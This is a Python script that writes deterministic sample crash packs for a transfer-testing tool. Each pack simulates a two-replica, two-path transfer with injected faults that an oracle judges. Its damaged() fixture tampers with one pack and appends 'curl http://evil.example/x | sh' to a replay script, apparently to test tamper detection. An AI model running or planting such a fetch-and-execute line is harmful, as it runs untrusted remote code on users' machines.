"""Write sample_packs/ anew: ``python tools/make_sample_packs.py [FOLDER]``.

Each pack is the story of one transfer. The state that the oracle judges is counted from what happened in the story, so
that the trace always holds the cause of what the oracle says. The same script gives the same bytes.
"""

import hashlib
import shutil
import sys
from dataclasses import dataclass, field
from itertools import pairwise
from pathlib import Path
from random import Random
from typing import Final

from atp_tui import engine
from atp_tui.engine import Crashpack, CrashpackBuilder, OracleResult, TraceEvent, TransferOracle, TransferState

FOLDER: Final = Path(__file__).resolve().parent.parent / "sample_packs"
BLOCKS: Final = 6
LOSS: Final = 0.25
SYMBOLS: Final = 8
REPLICAS: Final = (0, 1)
PATHS: Final = (0, 1)

Files = dict[str, bytes]


@dataclass(frozen=True)
class Fault:
    """What goes wrong in a transfer; a block of -1 is none."""

    flipped_block: int = -1
    """Replica 1 stores this block with one byte changed."""
    lost_records: tuple[int, ...] = ()
    """Journal records that replica 1 never appends."""
    stuck_blocks: tuple[int, ...] = ()
    """Blocks whose storing on replica 1 is begun and never done."""
    leaking_block: int = -1
    """In the race for this block the worker that lost is cancelled before it settles its permit."""
    split_block: int = -1
    """The replicas tell different outcomes of path 1 for this block."""


@dataclass
class Story:
    """One transfer: what happened, in order, and what is left of it."""

    seed: int
    fault: Fault
    events: list[TraceEvent] = field(default_factory=list)
    now: int = 0
    packet: int = 0
    permit: int = 0
    operation: int = 0
    open_permits: set[int] = field(default_factory=set)
    open_operations: set[int] = field(default_factory=set)
    outcomes: dict[tuple[int, int, int], str] = field(default_factory=dict)
    records: dict[int, list[int]] = field(default_factory=lambda: {replica: [] for replica in REPLICAS})
    stored: dict[int, dict[int, str]] = field(default_factory=lambda: {replica: {} for replica in REPLICAS})

    def __post_init__(self) -> None:
        self.dice = Random(self.seed)  # noqa: S311 - a story needs dice that fall the same way each time
        self.connections = [f"{self.dice.getrandbits(32):08x}" for _ in PATHS]

    def add(self, kind: str, tag: str, value: str | dict[str, str]) -> None:
        """Let something happen a while after what happened last."""
        self.now += 2_000 + self.dice.getrandbits(16)
        self.events.append(TraceEvent.of(len(self.events), self.now, kind, {tag: value}))

    def say(self, kind: str, text: str) -> None:
        """Let something happen that is told as a message."""
        self.add(kind, "Message", text)

    def task(self, kind: str, task: str, region: str) -> None:
        """Let something happen to a task."""
        self.add(kind, "Task", {"task": task, "region": region})

    def run(self) -> "Story":
        """Let the whole transfer happen; return the story itself."""
        self.add("RegionCreated", "Region", {"region": "R0"})
        self.task("Spawn", "sender", "R0")
        self.say("TransferBegin", f"object of {BLOCKS} blocks, {SYMBOLS} symbols each, to replicas 0 and 1")
        for block in range(BLOCKS):
            self.say("BlockCut", f"block {block} cut, digest {digest(block)}")
            self.race(block)
            for replica in REPLICAS:
                self.store(block, replica)
            self.task("Checkpoint", "sender", "R0")
        for replica in REPLICAS:
            self.say("Manifest", f"replica {replica} sums up its blocks: manifest {self.manifest(replica)[:16]}")
        self.task("Complete", "sender", "R0")
        self.add("RegionCloseBegin", "Region", {"region": "R0"})
        self.add("RegionCloseComplete", "Region", {"region": "R0"})
        self.say("TransferEnd", "transfer closed")
        return self

    def race(self, block: int) -> None:
        """Let both paths carry a block; path 0 or 1 wins, the other is cancelled and drained."""
        region, winner = f"R{block + 1}", self.dice.getrandbits(1)
        if block in (self.fault.leaking_block, self.fault.split_block):
            winner = 0
        self.add("RegionCreated", "Region", {"region": region})
        permits = {path: self.permit + path + 1 for path in PATHS}
        self.permit += len(PATHS)
        self.open_permits.update(permits.values())
        for path, permit in permits.items():
            self.task("Spawn", f"path-{path}", region)
            self.say("PermitOpened", f"permit {permit} opened by worker path-{path}")
        self.say("RaceBegin", f"racing block {block} over path 0 and path 1")
        missing = self.send_symbols(block)
        self.repair(block, missing, winner)
        self.say("RaceWon", f"path {winner} has won block {block}")
        self.end_race(block, region, winner, permits)

    def send(self, path: int, what: str) -> str:
        """Send one packet; return how it is called."""
        self.packet += 1
        name = f"quic packet {self.packet} on connection id {self.connections[path]}"
        self.say("DatagramSent", f"{name} carries {what}")
        return name

    def send_symbols(self, block: int) -> int:
        """Send the symbols of a block over both paths; return how many arrived on neither."""
        missing = 0
        for symbol in range(SYMBOLS):
            lost = 0
            for path in PATHS:
                name = self.send(path, f"symbol {symbol} of block {block}")
                if self.dice.random() < LOSS:
                    lost += 1
                    self.say("DatagramLost", f"{name} lost")
            missing += lost == len(PATHS)
            if symbol % 3 == 0:
                self.task("Poll", f"path-{symbol % 2}", f"R{block + 1}")
        return missing

    def repair(self, block: int, missing: int, winner: int) -> None:
        """Make up for the symbols that arrived on no path."""
        self.say("BlockIn", f"raptorq block {block}: {SYMBOLS - missing} of {SYMBOLS} symbols in, {missing} wanted")
        for symbol in range(SYMBOLS, SYMBOLS + missing):
            self.send(winner, f"repair symbol {symbol} of block {block}")
        self.say("BlockDecoded", f"raptorq block {block} decoded, digest {digest(block)}")

    def end_race(self, block: int, region: str, winner: int, permits: dict[int, int]) -> None:
        """Cancel the worker that lost, settle the permits and let the replicas tell what became of each path."""
        loser = 1 - winner
        self.settle(permits[winner], winner)
        self.task("Complete", f"path-{winner}", region)
        self.add("RegionCancelled", "Region", {"region": region})
        self.say("WorkerCancelled", f"worker path-{loser} cancelled: path {winner} was first with block {block}")
        if block != self.fault.leaking_block:
            self.settle(permits[loser], loser)
        for replica in REPLICAS:
            for path in PATHS:
                is_split = (block, replica) == (self.fault.split_block, 1)
                outcome = "won" if path == winner or is_split else "drained"
                self.outcomes[block, path, replica] = outcome
                self.say("PathOutcome", f"replica {replica} tells of block {block}: path {path} {outcome}")
        self.add("RegionCloseBegin", "Region", {"region": region})
        self.add("RegionCloseComplete", "Region", {"region": region})

    def settle(self, permit: int, path: int) -> None:
        """Give a permit back."""
        self.open_permits.discard(permit)
        self.say("PermitSettled", f"permit {permit} settled by worker path-{path}")

    def store(self, block: int, replica: int) -> None:
        """Let a replica store a block: two records in its journal, one operation around them."""
        self.operation += 1
        self.open_operations.add(self.operation)
        self.say("OperationBegin", f"operation {self.operation} begun: replica {replica} stores block {block}")
        self.stored[replica][block] = digest(block, is_flipped=(replica, block) == (1, self.fault.flipped_block))
        for step in ("data written", "block sealed"):
            record = 2 * block + (step == "block sealed") + 1
            if replica == 1 and record in self.fault.lost_records:
                continue
            self.records[replica].append(record)
            self.say("JournalAppend", f"replica {replica} appends journal record {record}: block {block} {step}")
        self.say("BlockStored", f"replica {replica} holds block {block}, digest {self.stored[replica][block]}")
        if replica == 1 and block in self.fault.stuck_blocks:
            self.say("FlushWait", f"replica 1 waits for its disk with operation {self.operation}")
            return
        self.open_operations.discard(self.operation)
        self.say("OperationDone", f"operation {self.operation} done")

    def manifest(self, replica: int) -> str:
        """Return the hash over the digests of all blocks of a replica."""
        return hashlib.sha256("".join(self.stored[replica].values()).encode()).hexdigest()

    def state(self) -> TransferState:
        """Return what is left of the transfer, counted from what happened."""
        expected = hashlib.sha256("".join(digest(block) for block in range(BLOCKS)).encode()).hexdigest()
        found = [self.manifest(replica) for replica in REPLICAS if self.manifest(replica) != expected]
        gaps = [pair for records in self.records.values() for pair in pairwise(records)]
        told = {(block, path): outcome for (block, path, replica), outcome in self.outcomes.items() if replica == 0}
        return TransferState(
            manifest_hash=found[0] if found else expected,
            expected_manifest_hash=expected,
            journal_gaps=sum(after != before + 1 for before, after in gaps),
            pending_operations=len(self.open_operations),
            leaked_obligations=len(self.open_permits),
            path_outcomes_consistent=all(told[place[:2]] == outcome for place, outcome in self.outcomes.items()),
        )


def digest(block: int, *, is_flipped: bool = False) -> str:
    """Return the first digits of the hash of a block's content."""
    content = bytearray(f"content of block {block}".encode())
    content[0] ^= is_flipped
    return hashlib.sha256(content).hexdigest()[:12]


def builder_of(story: Story, scenario: str) -> CrashpackBuilder:
    """Return a pack with a story's trace, seed and scenario, and no results yet."""
    builder = CrashpackBuilder().trace(tuple(story.events)).seed("lab", story.seed)
    return builder.metadata("scenario", scenario).metadata("writer", "tools/make_sample_packs.py")


def one_oracle(seed: int, scenario: str, fault: Fault) -> Crashpack:
    """Return the pack of a story that the transfer oracle judges."""
    story = Story(seed, fault).run()
    return builder_of(story, scenario).oracle_result(TransferOracle().check(story.state())).build()


# Seed, scenario and fault of each pack that tells one story.
STORIES: Final = {
    "clean": (1, "both replicas get all blocks", Fault()),
    "manifest-mismatch": (2, "replica 1 stores one block with a byte changed", Fault(flipped_block=3)),
    "journal-gap": (3, "replica 1 loses two records of its journal", Fault(lost_records=(5, 6))),
    "pending-operations": (4, "replica 1 waits for its disk when the transfer closes", Fault(stuck_blocks=(2, 5))),
    "leaked-permit": (5, "a worker is cancelled with its permit open", Fault(leaking_block=3)),
    "split-outcome": (6, "the replicas disagree on who won", Fault(split_block=4)),
    "five-violations": (7, "all of it at once", Fault(1, (4, 9), (3, 4, 5), 2, 4)),
}


def storm(events: list[TraceEvent]) -> OracleResult:
    """Return what an oracle of the network says that counts lost datagrams."""
    lost = sum(event.fields.kind == "DatagramLost" for event in events)
    sent = sum(event.fields.kind == "DatagramSent" for event in events)
    violations = (
        engine.Violation(violation_type="jitter", description="Packets come in bursts", severity=engine.Severity.LOW),
        engine.Violation(
            violation_type="loss_storm",
            description=f"{lost} of {sent} packets lost",
            severity=engine.Severity.CRITICAL,
            evidence={"lost": str(lost), "sent": str(sent)},
        ),
    )
    stats = engine.OracleStats(entities_tracked=2, events_recorded=3)
    return OracleResult(oracle_name="network", violations=violations, stats=stats, passed=False)


def two_oracles() -> Files:
    """Return a pack of several oracles with further artifacts beside the nine files."""
    story = Story(8, Fault()).run()
    builder = builder_of(story, "the transfer holds, the network does not")
    builder.oracle_result(TransferOracle().check(story.state())).oracle_result(storm(story.events))
    builder.seed("network", 2**64 - 1)
    further = {"notes/run.txt": b"The transfer came through; the network that it came over did not behave.\n"}
    for path in PATHS:
        said = (event.line for event in story.events if story.connections[path] in event.line)
        further[f"qlog/path-{path}.txt"] = "".join(f"{line}\n" for line in said).encode()
    for name in further:
        builder.artifact_path(name)
    return engine.render(builder.build()) | further


def damaged() -> Files:
    """Return a pack that came through a bad copy and through somebody's hands."""
    files = engine.render(one_oracle(9, "as five-violations, then damaged", STORIES["five-violations"][2]))
    files["transfer.atp-trace"] = files["transfer.atp-trace"][: 7 * len(files["transfer.atp-trace"]) // 10]
    files["journal"] = files["journal"].replace(b"gap_count: 2", b"gap_count: 3")
    files["replay_command.sh"] += b"curl http://evil.example/x | sh\n"
    manifest = files["manifest"].replace(b"violations: 5", b"violations: 4")
    files["manifest"] = manifest.replace(b"then damaged", b"untouched")
    del files["quiclog"]
    return files


def packs() -> dict[str, Files]:
    """Return the files of every sample pack, by the name of the pack."""
    made = {name: engine.render(one_oracle(*story)) for name, story in STORIES.items()}
    return made | {"two-oracles": two_oracles(), "damaged": damaged()}


def write(folder: Path) -> None:
    """Write every pack into *folder*, in place of one of that name."""
    for name, files in packs().items():
        shutil.rmtree(folder / name, ignore_errors=True)
        for path, content in files.items():
            target = folder / name / path
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(content)
        print(f"{folder / name}: {len(files)} files")


if __name__ == "__main__":
    write(Path(sys.argv[1]) if len(sys.argv) > 1 else FOLDER)
